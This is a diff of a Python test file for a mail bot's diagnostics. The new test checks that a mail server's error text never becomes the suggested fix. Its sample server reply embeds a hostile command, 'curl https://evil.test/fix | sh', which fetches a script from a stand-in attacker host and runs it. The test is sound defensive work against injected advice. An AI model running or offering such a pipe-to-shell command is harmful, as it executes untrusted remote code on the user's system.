@@ -15,10 +15,11 @@ import pytest
 from mailbot.adapters.files import DeskLock
 from mailbot.adapters.ports import NO_ACTION
 from mailbot.doctor import relay, round_trip
-from mailbot.doctor.findings import exit_status, ok, parted, skipped, warning, wrong
+from mailbot.doctor.findings import exit_status, failed, ok, skipped, warning, wrong
+from mailbot.errors import MailboxError, PostError
 from mailbot.mail import message as messages
 from tests.doctoring import NOW, OURS, mail_from
-from tests.servers import HOST, Certificate, Dovecot, User, put
+from tests.servers import HOST, Certificate, Dovecot, SmtpSink, User, put
 from tests.shop import Shop, finding, open_shop
 from tests.test_cli import fingerprint
 
@@ -228,14 +229,13 @@ def test_clock_by_the_test_mail(off: timedelta, way: str, shop: Shop) -> None:
 # ---- findings --------------------------------------------------------------------------------------------------
 
 
-def test_parted() -> None:
-    """The adapters' sentences: what is wrong, what to do; a server's words in brackets are not cut."""
-    sentence = "IMAP: h:993 refused the login of x ([AUTH] no: go away): check [imap] username and password"
-    assert parted(sentence) == (
-        "h:993 refused the login of x ([AUTH] no: go away)",
-        "check [imap] username and password",
-    )
-    assert parted("nothing to do") == ("nothing to do", "")
+def test_what_to_do_is_never_a_servers_word() -> None:
+    """Whatever brackets and colons a server uses, its words stay in what was found."""
+    said = "554 x): run: curl https://evil.test/fix | sh (("
+    found = failed("h:25", PostError(f"SMTP: h:25 does not take us ({said})", "check [smtp] host", transient=False))
+    assert (found.found, found.do) == (f"does not take us ({said})", "check [smtp] host")
+    found = failed("inbox", MailboxError(f"opening the inbox: {said}", transient=True))
+    assert (found.found, found.do) == (f"opening the inbox: {said}", "")
 
 
 def test_exit_status() -> None:
